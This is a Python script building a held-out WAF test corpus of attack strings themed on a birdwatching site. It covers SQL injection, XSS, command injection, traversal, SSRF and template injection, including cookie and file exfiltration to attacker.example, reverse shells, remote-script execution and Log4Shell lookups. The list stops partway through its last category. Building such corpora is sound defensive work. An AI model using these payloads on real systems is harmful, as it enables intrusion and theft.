#!/usr/bin/env python3
"""Attack values for the birdwatching held-out WAF corpus.

Standard library only. Writes attacks.jsonl next to this file.
Hand-written (class, value) literals per category, plus a small number of
templated values that either join a hand-written prefix to a hand-written
payload, or apply one encoding to a hand-written payload.
"""
import json
import os
import random
import urllib.parse

SEED = 13702
PREFIX = "had7"

rng = random.Random(SEED)

A = {}

# ------------------------------------------------------------------ sqli (72 literals)
A["sqli"] = [
    ("plain-boolean", "' OR '1'='1"),
    ("plain-union-select", "' UNION SELECT username, password_hash FROM users--"),
    ("plain-numeric-boolean", "1 OR 1=1"),
    ("note-union-select", "Heard only, 2 birds' UNION SELECT email,api_token,NULL FROM observers-- -"),
    ("note-stacked-drop", "Flyover Lapwing x3'; DROP TABLE checklists;--"),
    ("species-code-boolean", "amerob' OR 1=1-- "),
    ("species-code-union", "eursta' UNION ALL SELECT NULL,NULL,table_name FROM information_schema.tables#"),
    ("latin-name-union", "Turdus merula') UNION SELECT 1,concat(login,0x3a,pass),3 FROM admin_users-- -"),
    ("count-numeric-union", "12 UNION SELECT 1,version(),3,4"),
    ("count-numeric-sleep-mysql", "3 AND SLEEP(5)"),
    ("count-numeric-if-sleep", "7 AND IF(ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>77,SLEEP(4),0)"),
    ("location-pg-sleep", "Cley Marshes'; SELECT pg_sleep(10)--"),
    ("location-pg-stacked-copy", "L191106'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh';--"),
    ("mssql-waitfor", "Minsmere'; WAITFOR DELAY '0:0:7'--"),
    ("mssql-xp-cmdshell", "S123456789'; EXEC master..xp_cmdshell 'whoami';--"),
    ("mssql-stacked-enable-xp", "1; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE;--"),
    ("mssql-error-convert", "Grey Heron' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects WHERE xtype='U'))--"),
    ("oracle-utl-http", "Gull sp.' || UTL_HTTP.REQUEST('http://attacker.example/'||(SELECT user FROM dual)) || '"),
    ("oracle-dbms-pipe", "' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('a',8)--"),
    ("oracle-union-dual", "Strix aluco' UNION SELECT banner,NULL FROM v$version WHERE ROWNUM=1--"),
    ("sqlite-union-master", "robin' UNION SELECT name, sql FROM sqlite_master--"),
    ("sqlite-randomblob", "1 AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))"),
    ("mysql-extractvalue-error", "Tyto alba' AND EXTRACTVALUE(1,CONCAT(0x7e,(SELECT @@version),0x7e))-- -"),
    ("mysql-updatexml-error", "' AND updatexml(null,concat(0x3a,(select database())),null)-- -"),
    ("mysql-benchmark", "gretit1' AND BENCHMARK(5000000,MD5('x'))#"),
    ("mysql-into-outfile", "' UNION SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/u.php'-- -"),
    ("mysql-load-file", "0 UNION SELECT LOAD_FILE('/etc/passwd'),2"),
    ("comment-as-space", "amerob'/**/UNION/**/SELECT/**/password/**/FROM/**/users#"),
    ("mysql-versioned-comment", "1 /*!50000UNION*/ /*!50000SELECT*/ 1,user(),3"),
    ("case-mixing", "Mallard' uNiOn SeLeCt nUlL,CuRrEnT_uSeR()-- -"),
    ("order-by-probe", "date' ORDER BY 9-- -"),
    ("order-by-param-case", "(CASE WHEN (SELECT substr(password,1,1) FROM users WHERE id=1)='a' THEN date ELSE species END)"),
    ("sort-param-boolean-sub", "count,(SELECT 1 FROM (SELECT SLEEP(3))x)"),
    ("limit-param-procedure", "10 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x5c,version())),1)"),
    ("search-like-wildcard-break", "heron%' AND 1=1 AND '%'='"),
    ("search-boolean-blind-substring", "warbler' AND SUBSTRING((SELECT password FROM users WHERE username='admin'),1,1)='a'-- "),
    ("pg-error-cast", "Parus major' AND 1=CAST((SELECT current_setting('is_superuser')) AS int)--"),
    ("pg-dollar-quoting", "1; CREATE TABLE t(x text); COPY t FROM $$/etc/passwd$$;--"),
    ("pg-chr-concat", "'||(SELECT CHR(65)||CHR(66)||string_agg(usename,',') FROM pg_user)||'"),
    ("csv-import-observation-field", "S555,Mallard,Anas platyrhynchos,331,'+(SELECT load_file(0x2f6574632f706173737764))+',US-NY"),
    ("json-count-quote", "2') OR ('x'='x"),
    ("double-quote-context", "Robin\" OR \"\"=\""),
    ("backslash-escape-eat", "Coot\\' OR 1=1-- -"),
    ("hex-literal-compare", "admin' AND password=0x61646d696e-- -"),
    ("having-error", "' HAVING 1=1--"),
    ("group-by-columns", "' GROUP BY species_code,count HAVING 1=1--"),
    ("boolean-blind-true", "bkcchi' AND 'a'='a"),
    ("boolean-blind-false", "bkcchi' AND 'a'='b"),
    ("alert-keyword-union", "Wryneck\" UNION SELECT password FROM users WHERE \"1\"=\"1"),
    ("observer-name-apostrophe-breakout", "O'Brien' OR username LIKE 'adm%'-- "),
    ("stacked-insert-admin", "Note: Kingfisher'; INSERT INTO users(username,role) VALUES('bird','admin');--"),
    ("stacked-update-role", "1; UPDATE users SET role='admin' WHERE username='birdnerd_42'--"),
    ("hotspot-id-or-sub", "L123 OR (SELECT COUNT(*) FROM users)>0"),
    ("mssql-openrowset", "'; SELECT * FROM OPENROWSET('SQLOLEDB','Server=203.0.113.7;uid=sa;pwd=x','SELECT 1')--"),
    ("mssql-xp-dirtree-oob", "'; EXEC master..xp_dirtree '\\\\attacker.example\\share';--"),
    ("mysql-oob-load-file-unc", "' UNION SELECT LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password FROM users LIMIT 1),'.attacker.example\\\\a'))-- -"),
    ("tab-as-space", "ruckin'\tOR\t1=1\t--\t"),
    ("newline-as-space", "1\nUNION\nSELECT\nuser,pass\nFROM\nusers"),
    ("parenthesis-no-space", "'or(1)=(1)#"),
    ("mysql-backtick-ident", "x' UNION SELECT `password` FROM `users`-- -"),
    ("url-double-dash-no-space", "grhero'--"),
    ("and-false-or-union", "-1' UNION SELECT 1,2,group_concat(column_name) FROM information_schema.columns WHERE table_name='users'-- -"),
    ("date-filter-between", "2024-01-01' AND '1'='1' UNION SELECT password,2 FROM users WHERE '1'='1"),
    ("coord-numeric-union", "51.5 UNION SELECT token,2 FROM sessions"),
    ("taxon-order-subquery", "331 AND (SELECT 1 FROM users WHERE username='admin' AND LENGTH(password)>8)"),
    ("sqlite-attach", "'; ATTACH DATABASE '/var/www/html/x.php' AS x; CREATE TABLE x.p(d text); INSERT INTO x.p VALUES('<?php system($_GET[1]);?>');--"),
    ("fullwidth-quote-union", "amerob＇ UNION SELECT password FROM users--"),
    ("like-injection-pg-ilike", "Heron' OR email ILIKE '%@%'--"),
    ("db2-sysibm", "' UNION SELECT tabname FROM syscat.tables FETCH FIRST 1 ROWS ONLY--"),
    ("h2-runscript", "1; RUNSCRIPT FROM 'http://attacker.example/evil.sql'--"),
    ("mssql-char-concat", "'+CHAR(39)+'; exec(CHAR(120)+CHAR(112)+'_cmdshell ''ping 203.0.113.5''')--"),
    ("export-filter-year", "2020) OR 1=1 OR (year=2020"),
]

# ------------------------------------------------------------------ xss (70 literals)
A["xss"] = [
    ("plain-script", "<script>alert(document.domain)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-svg-onload", "<svg onload=alert(1)>"),
    ("note-script-cookie-steal", "Lovely views of the Bittern <script>new Image().src='https://attacker.example/c?'+document.cookie</script>"),
    ("caption-img-onerror", "Juvenile Red-backed Shrike <img src=1 onerror=\"fetch('//attacker.example/?'+localStorage.token)\">"),
    ("species-name-svg", "Lanius collurio<svg/onload=alert`1`>"),
    ("forum-iframe-srcdoc", "Check this out: <iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>"),
    ("forum-link-javascript", "[Gull ID photos](javascript:alert(document.cookie))"),
    ("markdown-image-onerror", "![Avocet](x\" onerror=\"alert(1))"),
    ("attr-breakout-double", "\" onmouseover=\"alert(1)\" x=\""),
    ("attr-breakout-single", "' autofocus onfocus='alert(1)"),
    ("attr-breakout-tag", "\"><script>alert(1)</script>"),
    ("location-attr-breakout-input", "Cley Marshes\" autofocus onfocus=alert(document.domain) \""),
    ("js-string-breakout", "';alert(String.fromCharCode(88,83,83));//"),
    ("js-string-breakout-double", "\";alert(1);//"),
    ("script-close-breakout", "</script><script>alert(1)</script>"),
    ("textarea-breakout", "</textarea><img src=x onerror=alert(1)>"),
    ("title-breakout", "</title><svg onload=alert(1)>"),
    ("style-breakout", "</style><img src onerror=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("body-onload", "<body onload=alert('rba')>"),
    ("video-source-onerror", "<video><source onerror=\"alert(1)\"></video>"),
    ("audio-onerror", "Recording: <audio src=nf.wav onerror=alert(1)>"),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>mega!</marquee>"),
    ("a-href-javascript", "<a href=\"javascript:alert(1)\">map link</a>"),
    ("a-href-javascript-entity", "<a href=\"jav&#x61;script:alert(1)\">photo</a>"),
    ("a-href-javascript-tab", "<a href=\"java\tscript:alert(1)\">click</a>"),
    ("a-href-data-html", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">gpx</a>"),
    ("object-data", "<object data=\"javascript:alert(1)\"></object>"),
    ("embed-src", "<embed src=\"javascript:alert(1)\">"),
    ("form-action", "<form action=javascript:alert(1)><button>Submit sighting</button></form>"),
    ("button-formaction", "<button formaction=javascript:alert(1)>Confirm ID</button>"),
    ("math-href", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>"),
    ("svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>map</text></a></svg>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("case-mixing-script", "<ScRiPt>alert(1)</sCrIpT>"),
    ("no-space-slash", "<img/src/onerror=alert(1)>"),
    ("newline-in-tag", "<img\nsrc=x\nonerror=alert(1)>"),
    ("backtick-call", "<svg onload=alert`birds`>"),
    ("eval-atob", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("constructor-call", "<img src=x onerror=[].constructor.constructor('alert(1)')()>"),
    ("html-entity-in-handler", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("unicode-escape-js", "<img src=x onerror=\\u0061lert(1)>"),
    ("template-literal-js", "${alert(1)}</script><script>alert(1)</script>"),
    ("angular-sandbox-escape", "{{constructor.constructor('alert(1)')()}}"),
    ("vue-template-expr", "<div v-html=\"'<img src=x onerror=alert(1)>'\"></div>"),
    ("meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("link-import-stylesheet", "<link rel=stylesheet href=\"https://attacker.example/x.css\"><img src=x onerror=alert(1)>"),
    ("style-expression-ie", "<div style=\"width:expression(alert(1))\">Curlew</div>"),
    ("style-attr-onanimationstart", "<style>@keyframes x{}</style><p style=\"animation-name:x\" onanimationstart=\"alert(1)\">Dunlin</p>"),
    ("table-background", "<table background=\"javascript:alert(1)\"><tr><td>Tern</td></tr></table>"),
    ("noscript-breakout", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("comment-breakout", "--><svg onload=alert(1)>"),
    ("cdata-breakout", "]]><script>alert(1)</script>"),
    ("svg-use-data", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\"></use></svg>"),
    ("iframe-src-javascript", "<iframe src=\"javascript:alert(1)\"></iframe>"),
    ("keylogger-script-src", "Rarity confirmed <script src=https://attacker.example/k.js></script>"),
    ("onpointerover-div", "<div onpointerover=\"alert(1)\">hover the map</div>"),
    ("oncontentvisibility", "<p style=\"content-visibility:auto\" oncontentvisibilityautostatechange=\"alert(1)\">Robin</p>"),
    ("popover-ontoggle", "<button popovertarget=x>Show</button><div popover id=x ontoggle=alert(1)>Wren</div>"),
    ("svg-xlink-href", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"10\" y=\"20\">Photo</text></a></svg>"),
    ("img-srcset-onerror", "<img srcset=\",,,,\" onerror=alert(1)>"),
    ("profile-name-script", "Siobhán<script>fetch('https://attacker.example/s',{method:'POST',body:document.cookie})</script>"),
    ("chat-onerror-short", "still showing <img src=x onerror=alert(1)//"),
    ("dom-hash-location-js", "javascript:alert(document.domain)//"),
    ("javascript-uri-case-newline", "JaVaScRiPt:\nalert(1)"),
    ("data-uri-svg-script", "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4="),
    ("fullwidth-brackets", "＜script＞alert(1)＜/script＞"),
]

# ------------------------------------------------------------------ cmdi (63 literals)
A["cmdi"] = [
    ("plain-semicolon-id", "; id"),
    ("plain-pipe-cat", "| cat /etc/passwd"),
    ("plain-subshell", "$(whoami)"),
    ("filename-semicolon", "IMG_4821.JPG; curl http://attacker.example/s.sh | sh"),
    ("filename-backtick", "DSC_0042.NEF`id`"),
    ("filename-subshell-exfil", "NFC_20240915.wav$(curl -s http://attacker.example/?h=$(hostname))"),
    ("filename-and-chain", "recording.wav && wget -q -O- http://203.0.113.10/x | bash"),
    ("filename-or-chain", "missing.jpg || nc -e /bin/sh 203.0.113.10 4444"),
    ("filename-newline", "Shorelark.jpg\ncat /etc/shadow"),
    ("filename-newline-crlf-encoded", "Shorelark.jpg%0aid"),
    ("exiftool-arg-injection", "-if 'system(\"id\")' IMG_4821.JPG"),
    ("exiftool-config-arg", "-config /tmp/upload/evil.config photo.jpg"),
    ("ffmpeg-arg-output-overwrite", "-y -i /etc/passwd -f data /var/www/html/leak.txt"),
    ("sox-pipe-filename", "|curl -s http://attacker.example/x.sh|sh"),
    ("imagemagick-delegate", "|ls -la > /tmp/o.txt"),
    ("imagemagick-msl-arg", "msl:/tmp/upload/evil.msl"),
    ("tar-checkpoint-action", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/upload/s.sh"),
    ("zip-unzip-arg", "-TT \"sh -c id\" -T backup.zip"),
    ("curl-arg-output", "-o /var/www/html/shell.php http://attacker.example/shell.txt"),
    ("wget-arg-post-file", "--post-file=/etc/passwd http://attacker.example/"),
    ("git-upload-pack-arg", "--upload-pack=touch /tmp/pwned"),
    ("ssh-proxycommand", "-oProxyCommand=sh -c 'id>/tmp/x' birder@host"),
    ("rsync-rsh-arg", "-e 'sh -c id' backup:/data ."),
    ("find-exec-arg", "-exec sh -c 'curl attacker.example/$(id -u)' ;"),
    ("sendmail-arg-log", "birder@example.com -X/var/www/html/l.php -OQueueDirectory=/tmp"),
    ("gpx-filename-ifs", "track.gpx;cat${IFS}/etc/passwd"),
    ("ifs-brace-expansion", ";{cat,/etc/passwd}"),
    ("hostname-ping-chain", "203.0.113.7; uname -a"),
    ("hostname-ping-backtick", "example.org`sleep 8`"),
    ("time-delay-sleep", "x; sleep 10 #"),
    ("time-delay-ping", "x & ping -c 10 127.0.0.1 &"),
    ("quote-breakout-single", "Kestrel'; id; echo '"),
    ("quote-breakout-double", "Merlin\"; cat /etc/hostname; echo \""),
    ("quote-concat-bypass", "; c'a't /e\"t\"c/pa''sswd"),
    ("wildcard-bypass", "; /???/c?t /???/p??s??"),
    ("variable-concat-bypass", "; a=ca;b=t;$a$b /etc/passwd"),
    ("backslash-bypass", "; w\\h\\o\\a\\m\\i"),
    ("base64-decode-pipe", "; echo aWQ7dW5hbWUgLWE= | base64 -d | sh"),
    ("hex-printf-bypass", "; $(printf '\\x69\\x64')"),
    ("reverse-shell-bash", "; bash -i >& /dev/tcp/203.0.113.20/9001 0>&1"),
    ("reverse-shell-python", "; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.9\",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("reverse-shell-mkfifo", "| rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.20 9001 >/tmp/f"),
    ("perl-oneliner", "; perl -e 'system(\"id\")'"),
    ("process-substitution", "<(curl -s http://attacker.example/p)"),
    ("dns-exfil-nslookup", "; nslookup $(whoami).attacker.example"),
    ("crontab-write", "; echo '* * * * * curl attacker.example|sh' | crontab -"),
    ("ssh-key-append", "; echo ssh-ed25519 AAAAC3Nz-fake-key attacker >> ~/.ssh/authorized_keys"),
    ("windows-ampersand", "IMG_4821.JPG & whoami"),
    ("windows-pipe-type", "| type C:\\Windows\\win.ini"),
    ("windows-cmd-c", "& cmd /c \"net user birder P@ss123 /add\""),
    ("windows-powershell-iex", "; powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""),
    ("windows-powershell-encoded", "& powershell -enc dwBoAG8AYQBtAGkA"),
    ("windows-certutil", "& certutil -urlcache -split -f http://attacker.example/x.exe %TEMP%\\x.exe & %TEMP%\\x.exe"),
    ("windows-caret-obfuscation", "& w^h^o^a^m^i"),
    ("windows-env-substring", "& %COMSPEC:~-7,1%hoami"),
    ("powershell-subexpression", "$(Get-Content C:\\Windows\\System32\\drivers\\etc\\hosts)"),
    ("powershell-semicolon-invoke", "'; Invoke-WebRequest -Uri http://attacker.example/$env:USERNAME; '"),
    ("note-audio-convert-semicolon", "Recording notes: dawn chorus; rm -rf /var/www/uploads/*"),
    ("location-export-filename", "checklists_2024.csv; curl -F f=@/etc/passwd http://attacker.example/u"),
    ("kml-export-dollar-brace", "transects_${IFS}$(id).kml"),
    ("newline-encoded-id", "x%0Aid%0A"),
    ("redirect-write-webshell", "; echo '<?php system($_GET[0]);?>' > /var/www/html/b.php"),
    ("xargs-chain", "; ls /home | xargs -I{} cat /home/{}/.bash_history"),
]

# ------------------------------------------------------------------ traversal (45 literals)
A["traversal"] = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("plain-windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("media-path-dotdot", "2024/05/../../../../../etc/passwd"),
    ("media-filename-dotdot", "IMG_4821.JPG/../../../../etc/shadow"),
    ("export-file-dotdot-env", "exports/2024/q1/../../../../app/.env"),
    ("recording-path-proc", "recordings/../../../../proc/self/environ"),
    ("absolute-path", "/etc/passwd"),
    ("absolute-path-proc-cmdline", "/proc/self/cmdline"),
    ("absolute-windows", "C:\\Windows\\System32\\config\\SAM"),
    ("url-encoded-dots", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("url-encoded-slash", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("double-url-encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("overlong-utf8-slash", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("overlong-utf8-dot", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("percent-u-encoding", "..%u2216..%u2216..%u2216windows%u2216win.ini"),
    ("percent-u-dot-slash", "%u002e%u002e%u002f%u002e%u002e%u002fetc%u002fpasswd"),
    ("backslash-encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("nested-strip-bypass", "....//....//....//etc/passwd"),
    ("nested-strip-backslash", "....\\\\....\\\\....\\\\windows\\\\win.ini"),
    ("mixed-slashes", "..\\/..\\/..\\/etc/passwd"),
    ("null-byte-extension", "../../../../etc/passwd%00.jpg"),
    ("null-byte-raw", "../../../etc/passwd\u0000.wav"),
    ("dot-segment-semicolon", "..;/..;/..;/WEB-INF/web.xml"),
    ("java-web-inf", "../../WEB-INF/classes/application.properties"),
    ("tomcat-users", "../../../../conf/tomcat-users.xml"),
    ("ssh-key", "../../../../home/birder/.ssh/id_rsa"),
    ("aws-credentials", "../../../../root/.aws/credentials"),
    ("git-config", "../../.git/config"),
    ("docker-secrets", "../../../../run/secrets/db_password"),
    ("k8s-token", "../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("php-filter-wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("file-uri", "file:///etc/passwd"),
    ("file-uri-windows", "file:///C:/Windows/win.ini"),
    ("unc-path", "\\\\203.0.113.8\\share\\payload.dll"),
    ("zip-slip-entry", "media/../../../../../var/www/html/shell.php"),
    ("zip-slip-windows-entry", "..\\..\\..\\inetpub\\wwwroot\\x.aspx"),
    ("fullwidth-dots", "．．／．．／．．／etc／passwd"),
    ("unicode-dot-division-slash", "..∕..∕..∕etc∕passwd"),
    ("long-dotdot-chain", "../../../../../../../../../../../../etc/hosts"),
    ("dotdot-tab-encoded", "photos/2024/..%09/..%09/etc/passwd"),
    ("dotdot-trailing-dot-windows", "..\\..\\..\\boot.ini."),
    ("log-file-include", "../../../../var/log/nginx/access.log"),
    ("gpx-import-path-dotdot", "tracks/morning_walk.gpx/../../../../../etc/group"),
    ("avatar-path-dotdot-encoded-mixed", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("double-encoded-backslash", "..%255c..%255c..%255cwindows%255cwin.ini"),
]

# ------------------------------------------------------------------ ssrf (45 literals)
A["ssrf"] = [
    ("plain-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("plain-localhost-admin", "http://127.0.0.1:8080/admin"),
    ("webhook-metadata", "https://hooks.example-club.org/rare-alerts@169.254.169.254/latest/meta-data/"),
    ("webhook-gcp-metadata", "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"),
    ("webhook-azure-metadata", "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"),
    ("photo-url-aws-imdsv1", "http://169.254.169.254/latest/user-data"),
    ("photo-url-ecs-task", "http://169.254.170.2/v2/credentials/"),
    ("photo-url-alibaba", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("decimal-ip", "http://2852039166/latest/meta-data/"),
    ("hex-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("octal-ip", "http://0251.0376.0251.0376/latest/meta-data/"),
    ("dotted-hex-ip", "http://0xA9.0xFE.0xA9.0xFE/"),
    ("short-ip-loopback", "http://127.1/server-status"),
    ("zero-ip", "http://0/"),
    ("ipv6-loopback", "http://[::1]:6379/"),
    ("ipv6-mapped-v4", "http://[::ffff:169.254.169.254]/latest/meta-data/"),
    ("ipv6-mapped-hex", "http://[0:0:0:0:0:ffff:7f00:1]:9200/_cat/indices"),
    ("userinfo-confusion", "https://cdn.example-birds.net@127.0.0.1:2375/containers/json"),
    ("fragment-confusion", "http://127.0.0.1:8500/v1/agent/self#@cdn.example-birds.net"),
    ("backslash-confusion", "http://cdn.example-birds.net\\@10.0.0.5/"),
    ("dns-rebind-name", "http://169.254.169.254.nip.io/latest/meta-data/"),
    ("attacker-redirect", "https://attacker.example/redirect?to=http://169.254.169.254/latest/meta-data/"),
    ("attacker-subdomain-resolves-internal", "http://internal.attacker.example:8080/actuator/env"),
    ("gopher-redis", "gopher://127.0.0.1:6379/_SET%20x%20%22%5Cn*/1%20*%20*%20*%20*%20bash%20-c%20id%5Cn%22%0D%0ACONFIG%20SET%20dir%20/var/spool/cron%0D%0ASAVE%0D%0A"),
    ("gopher-smtp", "gopher://10.0.0.25:25/_HELO%20x%0D%0AMAIL%20FROM:<a@attacker.example>%0D%0ARCPT%20TO:<admin@example.org>%0D%0ADATA%0D%0Ax%0D%0A.%0D%0A"),
    ("dict-scheme", "dict://127.0.0.1:11211/stats"),
    ("file-scheme-localhost", "file://localhost/etc/shadow"),
    ("ftp-internal", "ftp://10.0.0.12/backups/db.sql"),
    ("ldap-scheme", "ldap://127.0.0.1:389/dc=corp"),
    ("jar-scheme", "jar:http://attacker.example/x.zip!/evil.class"),
    ("netdoc-scheme", "netdoc:///etc/passwd"),
    ("rfc1918-kubelet", "https://10.0.0.1:10250/pods"),
    ("rfc1918-docker", "http://172.17.0.1:2375/images/json"),
    ("rfc1918-router", "http://192.168.1.1/cgi-bin/config.exp"),
    ("internal-service-name", "http://elasticsearch:9200/_search?q=*"),
    ("internal-service-consul", "http://consul.service.consul:8500/v1/kv/?recurse"),
    ("internal-k8s-api", "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets"),
    ("localhost-name", "http://localhost:8983/solr/admin/cores?action=STATUS"),
    ("localhost-trailing-dot", "http://localhost.:15672/api/users"),
    ("import-url-gpx-internal", "Import from URL: http://10.20.30.40/internal/tracks.gpx"),
    ("ebird-import-url-localhost", "https://api.example-birds.net/import?src=http://127.0.0.1:5000/debug/console"),
    ("avatar-url-metadata-encoded-host", "http://%31%36%39%2e%32%35%34%2e%31%36%39%2e%32%35%34/latest/meta-data/"),
    ("enclosed-alphanumerics", "http://①②⑦.⓪.⓪.①:8080/"),
    ("webhook-internal-ip-port", "http://192.168.0.10:8080/manager/html"),
    ("protocol-relative-metadata", "//169.254.169.254/latest/meta-data/"),
]

# ------------------------------------------------------------------ code (72 literals)
A["code"] = [
    ("ssti-jinja2-plain", "{{7*7}}{{config.items()}}"),
    ("ssti-jinja2-os-popen", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
    ("ssti-jinja2-subclasses", "{{''.__class__.__mro__[1].__subclasses__()}}"),
    ("ssti-jinja2-lipsum", "Subject: [RBA] {{ lipsum.__globals__['os'].popen('cat /etc/passwd').read() }}"),
    ("ssti-jinja2-request-attr", "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')()}}"),
    ("ssti-jinja2-block", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"),
    ("ssti-twig-filter-exec", "{{['id']|filter('system')}}"),
    ("ssti-twig-map", "Species: {{['cat /etc/passwd']|map('passthru')|join}}"),
    ("ssti-twig-env-callback", "{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}"),
    ("ssti-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ssti-freemarker-api", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("ssti-velocity", "#set($rt=$class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("ssti-thymeleaf-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-smarty-php", "{php}echo `id`;{/php}"),
    ("ssti-smarty-system", "{system('cat /etc/passwd')}"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb-system", "Field note: <%= system('curl http://attacker.example/$(whoami)') %>"),
    ("ssti-slim-ruby", "#{ %x|id| }"),
    ("ssti-mako", "${self.module.cache.util.os.system('id')}"),
    ("ssti-mako-import", "<%import os%>${os.popen('id').read()}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-django-debug-leak", "{{ settings.SECRET_KEY }}"),
    ("ssti-handlebars-rce", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return process.mainModule.require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-ejs-outputfunction", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti-nunjucks", "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}"),
    ("ssti-go-template", "{{ .Config.DB.Password }}{{ printf \"%s\" .Env }}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-jsp-el", "${pageContext.request.getSession().getServletContext()}"),
    ("el-runtime-exec", "${Runtime.getRuntime().exec('id')}"),
    ("el-java-el-processbuilder", "${''.getClass().forName('java.lang.ProcessBuilder').getConstructors()[0].newInstance(['id']).start()}"),
    ("spel-t-runtime", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/x')}"),
    ("spel-new-processbuilder", "Message template: #{new java.lang.ProcessBuilder({'id'}).start()}"),
    ("ognl-struts", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl-content-type", "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check','1')}"),
    ("mvel", "@{Runtime.getRuntime().exec('id')}"),
    ("log4shell-plain", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell-note", "Heard only ${jndi:ldap://203.0.113.40/Exploit}"),
    ("log4shell-lower-obfuscation", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/x}"),
    ("log4shell-default-obfuscation", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.3/o}"),
